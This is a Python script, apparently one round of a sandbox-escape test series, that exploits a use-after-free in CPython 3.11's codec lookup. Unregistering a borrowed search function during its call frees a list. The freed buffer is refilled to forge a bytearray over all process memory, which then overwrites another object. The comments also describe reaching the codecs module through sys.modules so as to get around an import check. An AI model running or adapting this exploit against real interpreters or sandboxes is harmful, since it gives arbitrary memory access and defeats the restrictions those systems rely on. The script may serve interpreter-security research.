# family: wall (memory: the codec lookup calls a search function borrowed; codecs.unregister frees it during its call)   goal: memory   interpreter: /usr/bin/python3
# Of our own, the fourteenth round's ok_03 shape in the codec registry: 3.11's
# _PyCodec_Lookup calls each search function borrowed from its list, and
# codecs.unregister removes one from there. The search function is lst.count, held by
# the list alone once `holder` is emptied inside the call: x.__eq__ unregisters it,
# which frees it and the list under list_count. The name has a dot, so the encodings
# package's search function, first in the list, imports nothing. The wall: codecs'
# unregister keeps what it removes (keep_call). codecs is reached through sys.modules
# (its import is not allowed; the checker is out of the way).
import sys
codecs = sys.modules.get("codecs") or __import__("codecs")
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __eq__(self, other):
        keep.append(self)              # self: the fake bytearray over all memory
        return False
FAKEOBJ = W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
h1 = bytes(FAKEOBJ)                    # the fake bytearray: data at id(h1) + 32
ITEMS = (W(0) + W(id(h1) + 32))[:15]   # bytearray(15 bytes) -> a 16-byte buffer: the freed ob_item
def refill():
    k1 = bytearray(ITEMS); k2 = bytearray(ITEMS); k3 = bytearray(ITEMS); k4 = bytearray(ITEMS)
    keep.extend((k1, k2, k3, k4))
class X:
    def __eq__(self, other):
        codecs.unregister(holder.pop())                         # drops the bound list.count, then its list (ob_item freed)
        refill()
        return False
x, y = X(), X()
lst = [x, y]
holder = [lst.count]
codecs.register(holder[0])
del lst
try:
    "text".encode("wall14.no-such-codec")   # list_count(lst, "wall14.no_such_codec")
except Exception as e:
    print("encode:", type(e).__name__, e)
found = [k for k in keep if type(k) is BA]
if found:
    mem = found[0]
    print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
    target = bytearray(b"AAAAAAAA")    # another object's memory, written through the fake
    start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
    mem[start] = 0x42
    if target[0] == 0x42:
        print("MEMORY-OVERWRITTEN", bytes(target))
